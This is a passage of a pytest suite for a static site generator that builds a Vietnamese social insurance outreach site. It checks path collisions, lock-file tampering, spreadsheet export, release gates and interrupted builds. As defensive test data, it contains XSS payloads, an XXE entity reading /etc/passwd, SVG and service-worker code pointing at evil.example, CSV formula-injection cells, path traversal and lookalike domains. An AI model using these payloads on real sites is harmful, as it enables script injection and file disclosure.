        shutil.copytree(self.root, root, symlinks=True)
        return root


@pytest.fixture(scope="module")
def base_site(tmp_path_factory) -> BaseSite:
    """A small project built once: the previous site every attack below must leave as it was."""
    root = tmp_path_factory.mktemp("base") / "project"
    write_project(root, BASE_PAGES)
    run = build(root)
    assert run.returncode == 0, run.tail()
    return BaseSite(root, snapshot(root / "site"))


def add(root: Path, rel: str, text: str) -> None:
    path = root / "content" / rel
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, encoding="utf-8")


def edit_lock(root: Path, change) -> None:
    lock = root / "content" / "qr-lock.yml"
    lock.write_text(change(lock.read_text(encoding="utf-8")), encoding="utf-8")


INFOGRAPHIC = "```infographic\nkind: steps\ntitle: Các bước\nitems:\n  - Một\n  - Hai\n```\n"


def path_attack(name: str, files: dict[str, str], threat: str, refuse_at: list[str] | None = None) -> Attack:
    """Pages whose paths collide (`threat`: what they would do if built); a refusal may name any of
    `refuse_at` (default: every file)."""
    return Attack(name, files, tuple((f"content/{rel}", range(1, 10**6)) for rel in refuse_at or files), threat=threat)


RESERVED_PATHS = [
    path_attack("vi/bahnar.md", {"vi/bahnar.md": page("B", "x")}, "replaces the Bahnar home page"),
    path_attack("vi/q.md", {"vi/q.md": page("Q", "x")}, "takes over /q/"),
    path_attack("vi/search.md", {"vi/search.md": page("S", "x")}, "takes over /search/"),
    path_attack("vi/leaflets.md", {"vi/leaflets.md": page("L", "x")}, "takes over /leaflets/"),
    path_attack("vi/assets.md", {"vi/assets.md": page("A", "x")}, "takes over /assets/"),
    path_attack("vi/images.md", {"vi/images.md": page("I", "x")}, "takes over /images/"),
    path_attack("vi/qr.md", {"vi/qr.md": page("Q", "x")}, "takes over /qr/"),
    path_attack("infographic.md", {"vi/tu-nguyen/co-khoi.md": page("Có khối", INFOGRAPHIC, order=3),
                                   "vi/tu-nguyen/infographic.md": page("Trùng", "x")},
                "collides with the generated infographic page", ["vi/tu-nguyen/infographic.md"]),
]
ODD_NAMES = [
    path_attack("NFC and NFD twins", {f"vi/tu-nguyen/{NFC_NAME}": page("NFC", "x"), f"vi/tu-nguyen/{NFD_NAME}": page("NFD", "x")},
                "twins are a traceback"),
    path_attack("case twins", {"vi/tu-nguyen/Muc-dong.md": page("Hoa", "x")}, "collide on case-insensitive disks",
                ["vi/tu-nguyen/Muc-dong.md", "vi/tu-nguyen/muc-dong.md"]),
    path_attack("a b#c?d.md", {"vi/tu-nguyen/a b#c?d.md": page("Lạ", "x")}, "odd names are a traceback"),
]
LOCK_ATTACKS = {
    "duplicate tn key": (lambda text: text + "  tn: vi/tu-nguyen/muc-dong.md\n", "YAML's last key wins: /q/tn/ is re-pointed"),
    "code containing /": (lambda text: text + "  a/b: vi/tu-nguyen/muc-dong.md\n", "an unchecked code becomes a path"),
    "code that disappeared": (lambda text: re.sub(r"^  tn: .*\n", "", text, flags=re.M), "a removed code is not noticed"),
    "code re-pointed without a move": (lambda text: text.replace("tn: vi/tu-nguyen/index.md", "tn: vi/tu-nguyen/muc-dong.md"),
                                       "a re-pointed code is not noticed"),
}


@pytest.fixture(scope="module")
def path_batches(base_site, tmp_path_factory) -> dict[str, tuple[Path, BatchOutcome]]:
    """Reserved paths in one copy of the built project, odd names in another; what each refusal left of the site."""
    batches = {}
    for attacks in (RESERVED_PATHS, ODD_NAMES):
        root = base_site.copy(tmp_path_factory.mktemp("paths"))
        write_attacks(root, attacks)
        outcome = run_batch(root, attacks, build, observe=lambda root: snapshot(root / "site"))
        batches.update(dict.fromkeys((attack.name for attack in attacks), (root, outcome)))
    return batches


@pytest.fixture(scope="module")
def lock_runs(base_site, tmp_path_factory) -> dict[str, tuple[Path, Run]]:
    """Each lock attack on its own copy of the built project, built at the same time."""
    prepared = {}
    for name, (change, _) in LOCK_ATTACKS.items():
        root = base_site.copy(tmp_path_factory.mktemp("lock"))
        edit_lock(root, change)
        if name == "code that disappeared":  # the page takes another code, so `tn` is not simply issued again
            add(root, "vi/tu-nguyen/index.md", page("BHXH tự nguyện", "Tổng quan.", qr="tm"))
        prepared[name] = root
    runs = outreach_all([build_args(root) for root in prepared.values()], 120)
    return {name: (root, run) for (name, root), run in zip(prepared.items(), runs)}


@pytest.mark.parametrize("attack", [a.param for a in RESERVED_PATHS + ODD_NAMES])
def test_reserved_or_colliding_path_is_refused(attack, path_batches, base_site):
    root, outcome = path_batches[attack.name]
    assert attack.name in outcome.refused, (
        f"{attack.threat}: expected exit 1 with one of {[p for p, _ in attack.refuse_at]}:<line>: lỗi: …, got exit "
        f"{outcome.final.returncode}:\n{outcome.final.tail()}")
    assert outcome.observed[attack.name] == base_site.site
    assert staging_left(root) == []


@pytest.mark.parametrize("name", list(LOCK_ATTACKS))
def test_qr_lock_change_is_refused(name, lock_runs, base_site):
    root, run = lock_runs[name]
    assert run.returncode == 1, f"{LOCK_ATTACKS[name][1]}:\n{run.tail()}"
    assert_refused(run, "content/qr-lock.yml")
    assert snapshot(root / "site") == base_site.site
    assert staging_left(root) == []


@pytest.mark.parametrize("written, code", [
    ("on", "on"),
    ('"010"', "010"),
    ('"null"', "null"),
])
def test_qr_code_stays_the_string_written(written, code, base_site, tmp_path):
    """A code a page asks for, once issued, survives the lock and a later build without the page asking."""
    root = base_site.copy(tmp_path)
    text = page("Mức đóng", "Mức đóng.", order=1, qr=written)
    add(root, "vi/tu-nguyen/muc-dong.md", text)
    first = build(root)
    if first.returncode != 0:
        message = assert_refused(first, "content/vi/tu-nguyen/muc-dong.md", lines_of(text, f"qr: {written}"))
        assert f"`{code}`" in message, message
        return
    lock = yamlfile.parse((root / "content" / "qr-lock.yml").read_text(encoding="utf-8"), plain=True)
    assert lock["codes"].get(code) == "vi/tu-nguyen/muc-dong.md", lock
    add(root, "vi/tu-nguyen/muc-dong.md", page("Mức đóng", "Mức đóng, sửa lại.", order=1))
    second = build(root)
    assert second.returncode == 0, second.tail()
    assert (root / "site" / "q" / code / "index.html").exists()


# --- class: the command line -----------------------------------------------------------------------


def test_very_long_site_url(base_site, tmp_path):
    root = base_site.copy(tmp_path)
    run = build(root, "--site-url", "https://" + "a" * 60_000 + ".example/")
    assert run.returncode in (1, 2) and "Traceback" not in run.output, run.tail()
    assert any(ord(c) > 127 for c in run.output)
    assert snapshot(root / "site") == base_site.site


def test_bad_date_is_a_usage_mistake(base_site, tmp_path):
    root = base_site.copy(tmp_path)
    run = outreach(*build_args(root)[:-1], "2026-13-45")
    assert run.returncode == 2 and "Traceback" not in run.output and "2026-11-25" in run.output, run.tail()


@contextlib.contextmanager
def read_only(folder: Path):
    """`folder` made unwritable, for root too (chattr), or skip where that cannot be done."""
    immutable = os.geteuid() == 0 and subprocess.run(["chattr", "+i", folder], capture_output=True).returncode == 0
    if not immutable:
        folder.chmod(0o555)
    try:
        probe = folder / ".probe"
        try:
            probe.write_text("x")
            probe.unlink()
            pytest.skip("cannot make a folder read-only here")
        except OSError:
            pass
        yield
    finally:
        if immutable:
            subprocess.run(["chattr", "-i", folder], check=True)
        else:
            folder.chmod(0o755)


def test_read_only_site(base_site, tmp_path):
    root = base_site.copy(tmp_path)
    add(root, "vi/tu-nguyen/muc-dong.md", page("Mức đóng", "Mức đóng mới.", order=1))
    with read_only(root / "site"):
        run = build(root)
    assert run.returncode == 1 and "Traceback" not in run.output, run.tail()
    assert "site" in run.output and any(ord(c) > 127 for c in run.output)
    assert snapshot(root / "site") == base_site.site
    assert staging_left(root) == []


def test_killed_build_leaves_nothing_behind_the_next_one(base_site, tmp_path):
    root = base_site.copy(tmp_path)
    # A flyer to render: the build says so once the new site is being staged beside the old one.
    add(root, "vi/tu-nguyen/muc-dong.md", page("Mức đóng", "<!-- flyer -->\nMức đóng mới.\n<!-- /flyer -->", order=1))
    process = start_outreach(*build_args(root))
    for line in process.stdout:  # an event, not a wait of so many seconds
        if line.decode("utf-8").startswith("Đang tạo tờ gấp"):
            break
    assert staging_left(root), "the build is staging its site"
    os.killpg(process.pid, signal.SIGKILL)
    process.communicate()
    assert snapshot(root / "site") == base_site.site  # the killed build did not touch the site
    run = build(root)
    assert run.returncode == 0, run.tail()
    assert staging_left(root) == []


# --- class: the translators' spreadsheet ---------------------------------------------------------

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
SHEET_PAGES = {
    "vi/index.md": HOME,
    "vi/tu-nguyen/index.md": page("'=1+1'", "Tổng quan.", description="'+1+1'"),
    "vi/tu-nguyen/muc-dong.md": page("'@SUM(1+1)'", "- Mục một\n- Mục hai", description='"\\t=1+1"', order=1),
    "vi/tu-nguyen/quyen-loi.md": page("Quyền lợi", "Quyền lợi.", description='"\\r=1+1"', order=2),
}
CELLS = {  # a formula start -> (page, column) of the export that begins with it
    "=": ("tu-nguyen/index.md", "tieu_de_tieng_viet"),
    "+": ("tu-nguyen/index.md", "mo_ta_tieng_viet"),
    "-": ("tu-nguyen/muc-dong.md", "noi_dung_tieng_viet"),
    "@": ("tu-nguyen/muc-dong.md", "tieu_de_tieng_viet"),
    "tab": ("tu-nguyen/muc-dong.md", "mo_ta_tieng_viet"),
    "CR": ("tu-nguyen/quyen-loi.md", "mo_ta_tieng_viet"),
}


@pytest.fixture(scope="module")
def sheet_project(tmp_path_factory):
    root = tmp_path_factory.mktemp("sheet") / "project"
    write_project(root, SHEET_PAGES)
    sheet = root / "dich-bahnar.csv"
    run = outreach("translations", "export", "bahnar", "--project", root, "--out", sheet)
    assert run.returncode == 0, run.tail()
    with sheet.open(encoding="utf-8-sig", newline="") as handle:
        rows = {row["trang"]: row for row in csv.DictReader(handle)}
    return root, sheet, rows


@pytest.mark.parametrize("start", list(CELLS))
def test_export_neutralises_formula_cells(start, sheet_project):
    _, _, rows = sheet_project
    rel, column = CELLS[start]
    cell = rows[rel][column]
    assert cell.startswith("'"), repr(cell)
    assert not cell.startswith(FORMULA_STARTS)


def test_import_gives_back_what_export_neutralised(sheet_project, tmp_path):
    """A translator who fills in the sheet gets their text as they typed it, without the guard's quote."""
    project, sheet, rows = sheet_project
    root = tmp_path / "project"
    shutil.copytree(project, root)
    filled = root / "dich.csv"
    with sheet.open(encoding="utf-8-sig", newline="") as source, filled.open("w", encoding="utf-8-sig", newline="") as target:
        reader = csv.DictReader(source)
        writer = csv.DictWriter(target, fieldnames=reader.fieldnames)
        writer.writeheader()
        for row in reader:
            if row["trang"] == "tu-nguyen/muc-dong.md":
                row.update(tieu_de_ban_dich=row["tieu_de_tieng_viet"], noi_dung_ban_dich=row["noi_dung_tieng_viet"])
            writer.writerow(row)
    run = outreach("translations", "import", "--project", ".", filled.name, cwd=root)
    assert run.returncode == 0, run.tail()
    text = (root / "content" / "bahnar" / "tu-nguyen" / "muc-dong.md").read_text(encoding="utf-8")
    front = yaml.safe_load(text.split("---\n")[1])
    assert front["title"] == "@SUM(1+1)"
    assert text.split("---\n", 2)[2].strip() == "- Mục một\n- Mục hai"


def import_rows(root: Path, rows: list[list[str]]) -> Run:
    """A sheet with these rows (page, language, source hash, title, body, reviewer), each with the
    fingerprint of the translation file as it is now, as an export would have recorded it."""
    sheet = root / "dich.csv"
    with sheet.open("w", encoding="utf-8-sig", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["trang", "ngon_ngu", "ma_ban_goc", "ma_tep_ban_dich", "tieu_de_ban_dich", "noi_dung_ban_dich", "nguoi_duyet"])
        for rel, lang, *rest in rows:
            exported = file_fingerprint(root / "content" / lang / rel) if ".." not in rel else ""
            writer.writerow([rel, lang, rest[0], exported, *rest[1:]])
    return outreach("translations", "import", "--project", ".", sheet.name, cwd=root)


def source_hash_of(root: Path, rel: str) -> str:
    return content_hash((root / "content" / "vi" / rel).read_text(encoding="utf-8"))


@pytest.mark.parametrize("case", [
    "bad hash",
    "duplicate row",
    "path out of content/",
])
def test_bad_import_is_refused_and_writes_nothing(case, sheet_project, tmp_path):
    project, _, _ = sheet_project
    root = tmp_path / "project"
    shutil.copytree(project, root)
    good = ["tu-nguyen/index.md", "bahnar", source_hash_of(root, "tu-nguyen/index.md"), "Tiêu đề", "Nội dung.", ""]
    rows, line = {
        "bad hash": ([good[:2] + ["zzzz-not-a-hash"] + good[3:]], 2),
        "duplicate row": ([good, good[:3] + ["Tiêu đề khác"] + good[4:]], 3),
        "path out of content/": ([["../../../../tmp/ngoai.md"] + good[1:]], 2),
    }[case]
    before = snapshot(root / "content")
    run = import_rows(root, rows)
    assert_refused(run, "dich.csv", range(line, line + 1))
    assert snapshot(root / "content") == before


def test_empty_row_deletes_no_translation(sheet_project, tmp_path):
    project, _, _ = sheet_project
    root = tmp_path / "project"
    shutil.copytree(project, root)
    existing = page("Bản dịch", "Đã dịch.", status="draft", source="vi/tu-nguyen/index.md",
                    source_hash=source_hash_of(root, "tu-nguyen/index.md"))
    add(root, "bahnar/tu-nguyen/index.md", existing)
    run = import_rows(root, [["tu-nguyen/index.md", "bahnar", source_hash_of(root, "tu-nguyen/index.md"), "", "", ""]])
    assert run.returncode == 0 and "Traceback" not in run.output, run.tail()
    assert (root / "content" / "bahnar" / "tu-nguyen" / "index.md").read_text(encoding="utf-8") == existing


# === issue 20: every value untrusted, every route to paper gated, the site survives any interruption ===
#
# | class | attacks | expected outcome |
# |---|---|---|
# | values | hotline with markup, Arabic-Indic digits or letters; site_url breaking out of an attribute, with
#   user info or a query; over-long office and contact names; U+202E / U+2066 / C1 controls in a contact, a
#   title, a campaign message, a page body | refused at the value's own `path:line`; a hotline that would
#   slip past the check is escaped by the templates (no script runs in Chromium) |
# | active content | SVG with script, onload, foreignObject, an outside href, a DOCTYPE, a stylesheet
#   instruction; .html, .js, .xml beside a page; HTML named .png | refused at the file's line |
# | paper | hand-typed amounts and percentages (campaign message, flyer action part), an unverified figure
#   quoted in a campaign, a loopback address in a commune office, a placeholder domain in a campaign, an
#   unknown placeholder in a commune's hours; look-alike, nip.io and IP-literal site addresses; an
#   address change without --new-site-url | refused by `--release` at the `path:line` it was written |
# | interruption | the build killed before, during and after each step of the switch, with and
#   without the atomic exchange, then a build that fails | the published site byte-identical to a
#   complete site (the old one, or the new one once the exchange happened), no staging folder left |

from generator.build import BuildOptions, Project, compose  # noqa: E402
from generator.problems import ContentError  # noqa: E402
import datetime as _dt  # noqa: E402

REAL_ADDRESS = "https://gialai.baohiemxahoi.gov.vn/tuyen-truyen/"
RELEASE_DAY = _dt.date.fromisoformat(AS_OF)
PRINTED_OVERVIEW = ("---\ntitle: BHXH tự nguyện\n---\n\nTổng quan.\n\n<!-- leaflet -->\n<!-- flyer -->\n"
                    "Mức đóng là {{ policy.voluntary.rate }} thu nhập bạn chọn.\n<!-- /flyer -->\n<!-- /leaflet -->\n")


def ready(root: Path, pages: dict | None = None, *, verified: bool = True, data: dict | None = None,
          site_yml=None) -> Project:
    """A project a release may print, but for what the attack changes (data: file name in content/ -> text)."""
    project = write_project(root, {"vi/index.md": HOME, "vi/tu-nguyen/index.md": PRINTED_OVERVIEW, **(pages or {})})
    site = project.site_file.read_text(encoding="utf-8")
    site = re.sub(r"(?m)^site_url: .*$", f"site_url: {REAL_ADDRESS}", site)
    project.site_file.write_text(site_yml(site) if site_yml else site, encoding="utf-8")
    if verified:
        policy_file = project.content_dir / "policy.yml"
        policy_file.write_text(policy_file.read_text(encoding="utf-8").replace("verified: false", "verified: true"), encoding="utf-8")
    for name, text in (data or {}).items():
        (project.content_dir / name).write_text(text, encoding="utf-8")
    return project


def composed(project: Project, **options) -> list[tuple[str, int, str]]:
    """The (path, line, message) of each error that compose() refuses, or [] if it composes."""
    try:
        compose(project, BuildOptions(RELEASE_DAY, **{"release": True, **options}))
    except ContentError as error:
        return [(str(p.path), p.line, p.message) for p in error.problems]
    return []


def assert_refused_at(problems, path: str, line: int, words: str = "") -> None:
    hits = [m for p, n, m in problems if p == path and n == line and any(ord(c) > 127 for c in m) and "\n" not in m]
    assert hits, f"expected {path}:{line}: lỗi: … ({words}), got {problems}"
    if words:
        assert any(words in m for m in hits), hits


def line_with(text: str, needle: str) -> int:
    return text[: text.index(needle)].count("\n") + 1


def campaign(message: str, name: str = "Tháng vận động 2026") -> str:
    return ("campaigns:\n  - code: tvd26\n    name: " + name + "\n    start: 2026-11-01\n    end: 2026-12-31\n"
            "    audiences: [tu-nguyen]\n    message: " + json.dumps(message, ensure_ascii=False) + "\n")


def commune(**office) -> str:
    fields = {"name": "Bưu điện xã Ia Grai", "address": "Thôn 1, xã Ia Grai", "hours": "Thứ Hai – Thứ Sáu, 7:00–11:30",
              "phone": "0269 3824 111", **office}
    contact = fields.pop("contact_name", None)
    text = ("communes:\n  - code: iagrai\n    name: Ia Grai\n    kind: xã\n    office:\n"
            + "".join(f"      {k}: {json.dumps(v, ensure_ascii=False)}\n" for k, v in fields.items()))
    if contact is not None:
        text += f"    contact:\n      name: {json.dumps(contact, ensure_ascii=False)}\n      phone: \"0912 345 678\"\n"
    return text


import json  # noqa: E402

# --- values from YAML: refused at their line ---------------------------------------------------------

HOTLINES = {
    "v1-markup": '"<svg onload=alert(1)>"',
    "v2-arabic-indic-digits": '"١٩٠٠ ٩٠٦٨"',
    "v3-letters": '"1900 9068 (máy lẻ 2)"',
    "v4-quote": '"1900\\" onmouseover=\\"alert(1)"',
}


@pytest.mark.parametrize("name", list(HOTLINES))
def test_hotline_is_ascii_digits_in_a_phone_format(name, tmp_path):
    project = ready(tmp_path / "p", site_yml=lambda s: re.sub(r'(?m)^  hotline: .*$', f"  hotline: {HOTLINES[name]}", s))
    text = project.site_file.read_text(encoding="utf-8")
    assert_refused_at(composed(project), "content/site.yml", line_with(text, "  hotline:"), "hotline")


SITE_URLS = {
    "v5-attribute-breakout": 'https://gialai.baohiemxahoi.gov.vn/"><svg onload=alert(1)>/',
    "v6-user-info": "https://admin:x@gialai.baohiemxahoi.gov.vn/",
    "v7-query": "https://gialai.baohiemxahoi.gov.vn/?next=javascript:alert(1)",
    "v8-scheme": "javascript://gialai.baohiemxahoi.gov.vn/%0aalert(1)",
}


@pytest.mark.parametrize("name", list(SITE_URLS))
def test_site_url_is_parsed_and_rebuilt(name, tmp_path):
    project = ready(tmp_path / "p", site_yml=lambda s: re.sub(r"(?m)^site_url: .*$", f"site_url: '{SITE_URLS[name]}'", s))
    text = project.site_file.read_text(encoding="utf-8")
    assert_refused_at(composed(project, release=False), "content/site.yml", line_with(text, "site_url:"), "không phải địa chỉ")


def test_long_office_and_contact_names_are_refused(tmp_path):
    text = commune(name="Bưu điện " * 15, contact_name="Nguyễn Văn " * 10)
    problems = composed(ready(tmp_path / "p", data={"communes.yml": text}), release=False)
    assert_refused_at(problems, "content/communes.yml", line_with(text, "      name: \"Bưu điện"), "dài quá")
    assert_refused_at(problems, "content/communes.yml", line_with(text, "      name: \"Nguyễn"), "dài quá")


INVISIBLE = {
    "v9-rlo-in-contact": ("communes.yml", lambda c: commune(contact_name=f"Nguyễn Văn A {c}876 543 2190"), "\u202e"),
    "v10-isolate-in-title": ("vi/tu-nguyen/muc-dong.md", lambda c: page(f"Mức đóng {c}x", "Mức đóng."), "\u2066"),
    "v11-c1-in-campaign": ("campaigns.yml", lambda c: campaign(f"Đăng ký {c} ở bưu điện xã."), "\u009b"),
    "v12-rlo-in-body": ("vi/tu-nguyen/muc-dong.md", lambda c: page("Mức đóng", f"Gọi {c}8609 0091."), "\u202e"),
    "v13-lre-in-site": ("site.yml", None, "\u202a"),
}


@pytest.mark.parametrize("name", list(INVISIBLE))
def test_control_and_bidi_characters_are_refused_at_their_line(name, tmp_path):
    rel, make, character = INVISIBLE[name]
    project = ready(tmp_path / "p")
    target = project.content_dir / rel
    if make is None:
        text = target.read_text(encoding="utf-8").replace("issuer: ", f"issuer: {character}")
    else:
        text = make(character)
    target.parent.mkdir(parents=True, exist_ok=True)
    target.write_bytes(text.encode("utf-8"))  # json.dumps escapes nothing: ensure_ascii=False
    text = text if character in text else text.encode().decode("unicode_escape")
    line = next(n for n, l in enumerate(text.split("\n"), 1) if character in l or f"\\u{ord(character):04x}" in l)
    assert_refused_at(composed(project, release=False), f"content/{rel}", line, f"U+{ord(character):04X}")


def hotline_page(generator_copy, root: Path, browser, *, escaped: bool) -> tuple[str, set[str]]:
    """The voluntary guide's HTML and the markers that ran in Chromium, built by a copy of the generator whose
    hotline check is removed (and, unless `escaped`, whose templates print the hotline raw)."""
    content = generator_copy.package / "sources" / "content.py"
    content.write_text(content.read_text(encoding="utf-8").replace(
        '    if not HOTLINE_CHARACTERS.match(value):', '    return value\n    if not HOTLINE_CHARACTERS.match(value):'), encoding="utf-8")
    if not escaped:
        for name in ("main.html", "partials/copyright.html", "404.html"):
            template = generator_copy.package / "templates" / "mkdocs" / name
            template.write_text(template.read_text(encoding="utf-8").replace(
                '| e | replace("{hotline}", outreach.hotline | e)', '| replace("{hotline}", outreach.hotline)'), encoding="utf-8")
    project = write_project(root, {"vi/index.md": HOME, "vi/tu-nguyen/index.md": OVERVIEW})
    site = project.site_file.read_text(encoding="utf-8")
    project.site_file.write_text(re.sub(r'(?m)^  hotline: .*$', '  hotline: "<img src=x onerror=pwned1=1>"', site), encoding="utf-8")
    result = generator_copy.outreach("build", "--project", str(root), "--site-dir", str(root / "site"), "--as-of", AS_OF)
    assert result.returncode == 0, result.stdout[-2000:] + result.stderr[-2000:]
    reader = Reader(browser)
    with serving(root / "site") as url:
        _, fired = reader.visit(lambda p: p.goto(url + "tu-nguyen/", wait_until="load").status)
    reader.close()
    return (root / "site" / "tu-nguyen" / "index.html").read_text(encoding="utf-8"), fired


@pytest.mark.browser
def test_templates_escape_a_hotline_that_slipped_past_the_check(generator_copy, tmp_path, browser):
    """Defence in depth: with the hotline check removed from a copy of the generator, the page still runs nothing."""
    html, fired = hotline_page(generator_copy, tmp_path / "project", browser, escaped=True)
    assert "&lt;img src=x onerror=pwned1=1&gt;" in html and "<img src=x" not in html
    assert fired == set()


@pytest.mark.browser
def test_the_hotline_payload_runs_when_the_templates_print_it_raw(generator_copy, tmp_path, browser):
    """The control: the same payload through templates without `| e` runs on the page."""
    _, fired = hotline_page(generator_copy, tmp_path / "project", browser, escaped=False)
    assert fired == {"pwned1"}


# --- active content in content/ ----------------------------------------------------------------------

SVG_HEAD = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10">\n'
ACTIVE = {
    "a1-svg-script": ("tu-nguyen/so-do.svg", SVG_HEAD + '<rect width="5"/>\n<script>pwned1=1</script>\n</svg>\n', 3),
    "a2-svg-onload": ("tu-nguyen/so-do.svg", SVG_HEAD + '<g>\n<rect width="5" onload="pwned2=1"/>\n</g>\n</svg>\n', 3),
    "a3-svg-foreign-object": ("tu-nguyen/so-do.svg", SVG_HEAD + '<foreignObject><p xmlns="http://www.w3.org/1999/xhtml">x</p>'
                                                               '</foreignObject>\n</svg>\n', 2),
    "a4-svg-outside-href": ("tu-nguyen/so-do.svg", SVG_HEAD + '\n<use href="https://evil.example/x.svg#a"/>\n</svg>\n', 3),
    "a5-svg-doctype": ("tu-nguyen/so-do.svg", '<?xml version="1.0"?>\n<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n'
                                              + SVG_HEAD + "<text>&x;</text></svg>\n", 2),
    "a6-svg-stylesheet": ("tu-nguyen/so-do.svg", '<?xml-stylesheet href="https://evil.example/a.css"?>\n' + SVG_HEAD + "</svg>\n", 1),
    "a7-html-beside-a-page": ("tu-nguyen/trang.html", "<script>pwned7=1</script>", 1),
    "a8-javascript": ("tu-nguyen/sw.js", "self.addEventListener('fetch', e => e.respondWith(fetch('https://evil.example')));", 1),
    "a9-xml": ("tu-nguyen/data.xml", '<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">pwned9=1</x:script>', 1),
    "a10-html-named-png": ("tu-nguyen/anh.png", "<html><script>pwned10=1</script></html>", 1),
}


@pytest.mark.parametrize("name", list(ACTIVE))
def test_active_content_is_refused(name, tmp_path):
    rel, text, line = ACTIVE[name]
    project = ready(tmp_path / "p", {f"vi/{rel}": text})
    assert_refused_at(composed(project, release=False), f"content/vi/{rel}", line)


def test_a_plain_drawing_is_published(tmp_path):
    svg = SVG_HEAD + '<defs><linearGradient id="g"><stop offset="0" stop-color="#fff"/></linearGradient></defs>\n' \
                     '<rect width="5" height="5" fill="url(#g)"/><use href="#g"/><text x="1" y="8">Mức đóng</text>\n</svg>\n'
    project = ready(tmp_path / "p", {"vi/tu-nguyen/so-do.svg": svg})
    assert composed(project, release=False) == []


# --- every route to paper: the release gate reads the text ---------------------------------------------

PAPER = {
    "g1-amount-in-campaign": lambda: {"campaigns.yml": campaign("Mức đóng thấp nhất 1.500.000 đồng mỗi tháng.")},
    "g2-percent-in-campaign": lambda: {"campaigns.yml": campaign("Nhà nước hỗ trợ 30% mức đóng cho hộ nghèo.")},
    "g3-vnd-in-campaign-name": lambda: {"campaigns.yml": campaign("Đăng ký ở bưu điện xã.", name="Chỉ từ 330000 VND")},
    "g4-loopback-office": lambda: {"communes.yml": commune(address="Đăng ký tại http://127.0.0.1:8080/dang-ky")},
    "g5-placeholder-domain": lambda: {"campaigns.yml": campaign("Xem thêm ở https://bhxh-gialai.example/chien-dich/.")},
    "g6-lookalike-in-office": lambda: {"communes.yml": commune(address="gialai.baohiemxahoi.gov.vn.evil-example.com/dang-ky")},
    "g7-nip-io-in-campaign": lambda: {"campaigns.yml": campaign("Đăng ký trực tuyến: https://10.0.0.1.nip.io/")},
}


@pytest.mark.parametrize("name", list(PAPER))
def test_release_refuses_what_paper_must_not_carry(name, tmp_path):
    data = PAPER[name]()
    project = ready(tmp_path / "p", data=data)
    [(file, text)] = data.items()
    needle = "message:" if file == "campaigns.yml" and "g3" not in name else ("name: Chỉ" if "g3" in name else "address:")
    problems = composed(project)
    assert_refused_at(problems, f"content/{file}", line_with(text, needle))
    # A draft shows it (marked as a draft): only a release is refused.
    assert [p for p in composed(project, release=False) if p[0] == f"content/{file}"] == []


def test_release_refuses_a_hand_typed_amount_in_a_flyer_action_part(tmp_path):
    body = ("Tổng quan.\n\n<!-- leaflet -->\n<!-- flyer -->\nMức đóng {{ policy.voluntary.rate }}.\n<!-- /flyer -->\n<!-- /leaflet -->\n\n"
            "<!-- flyer: action -->\n- Mang theo 3.000.000 VND tiền mặt.\n<!-- /flyer -->\n")
    text = page("BHXH tự nguyện", body)
    problems = composed(ready(tmp_path / "p", {"vi/tu-nguyen/index.md": text}))
    assert_refused_at(problems, "content/vi/tu-nguyen/index.md", line_with(text, "3.000.000 VND"), "gõ tay")


def test_release_refuses_an_unverified_figure_quoted_in_a_campaign(tmp_path):
    text = campaign("Hộ nghèo được hỗ trợ {{ policy.voluntary.support.poor }} mức đóng.")
    project = ready(tmp_path / "p", data={"campaigns.yml": text}, verified=False)
    assert_refused_at(composed(project), "content/campaigns.yml", line_with(text, "message:"), "voluntary.support.poor")


def test_placeholders_are_resolved_or_refused_in_every_commune_field(tmp_path):
    text = commune(hours="{{ policy.no_such_figure }}")
    assert_refused_at(composed(ready(tmp_path / "p", data={"communes.yml": text})), "content/communes.yml", line_with(text, "  - code:"),
                      "policy.no_such_figure")
    text = commune(hours="Gọi trước: {{ site.hotline }}")
    composition = compose(ready(tmp_path / "q", data={"communes.yml": text}), BuildOptions(RELEASE_DAY))
    assert composition.communes[0].office.hours == "Gọi trước: 1900 9068"


def test_dates_articles_and_phones_are_not_amounts(tmp_path):
    body = ("Tổng quan.\n\n<!-- leaflet -->\n<!-- flyer -->\nTheo Điều 5 khoản 2, từ 01/7/2025 (ngày 2026-01-01), gọi 0269 3824 111; "
            "mức đóng {{ policy.voluntary.rate }}.\n<!-- /flyer -->\n<!-- /leaflet -->\n")
    assert composed(ready(tmp_path / "p", {"vi/tu-nguyen/index.md": page("BHXH tự nguyện", body)})) == []


SITE_ADDRESSES = {
    "g8-lookalike": "https://gialai.baohiemxahoi.gov.vn.evil-example.com/",
    "g9-nip-io": "https://10.0.0.1.nip.io/",
    "g10-sslip-io": "https://192-168-1-1.sslip.io/tt/",
    "g11-public-ip-literal": "https://203.0.113.5/tt/",
    "g12-plain-http": "http://gialai.baohiemxahoi.gov.vn/",
}


@pytest.mark.parametrize("name", list(SITE_ADDRESSES))
def test_release_refuses_an_address_no_reader_should_trust(name, tmp_path):
    address = SITE_ADDRESSES[name]
    project = ready(tmp_path / "p", site_yml=lambda s: re.sub(r"(?m)^site_url: .*$", f"site_url: {address}", s))
    text = project.site_file.read_text(encoding="utf-8")
    assert_refused_at(composed(project), "content/site.yml", line_with(text, "site_url:"), "Bản phát hành cần địa chỉ thật")


def test_release_keeps_the_published_address_unless_told(tmp_path):
    project = ready(tmp_path / "p")
    previous = tmp_path / "manifest.json"
    previous.write_text(json.dumps({"site_url": "https://bhxh.gialai.gov.vn/tt/"}), encoding="utf-8")
    text = project.site_file.read_text(encoding="utf-8")
    try:
        compose(project, BuildOptions(RELEASE_DAY, release=True), previous)
        problems = []
    except ContentError as error:
        problems = [(str(p.path), p.line, p.message) for p in error.problems]
    assert_refused_at(problems, "content/site.yml", line_with(text, "site_url:"), "--new-site-url")
    compose(project, BuildOptions(RELEASE_DAY, release=True, new_site_url=True), previous)  # said on purpose: accepted


# --- the site survives any interruption -----------------------------------------------------------------

KILL = """
import datetime as dt, os, sys
from pathlib import Path
import generator.swap as swap
from generator.build import BuildOptions, Project, build

step, renames = sys.argv[1], []
if step.startswith("no-exchange-"):  # a system without renameat2: the switch takes two renames
    swap.exchange = lambda first, second: False
    step = step.removeprefix("no-exchange-")
real_exchange, real_rename, real_rmtree = swap.exchange, os.rename, swap.shutil.rmtree

def exchange(first, second):
    if step == "exchange":
        os._exit(9)
    done = real_exchange(first, second)
    if step == "exchange-after":
        os._exit(9)
    return done

def rename(source, target):
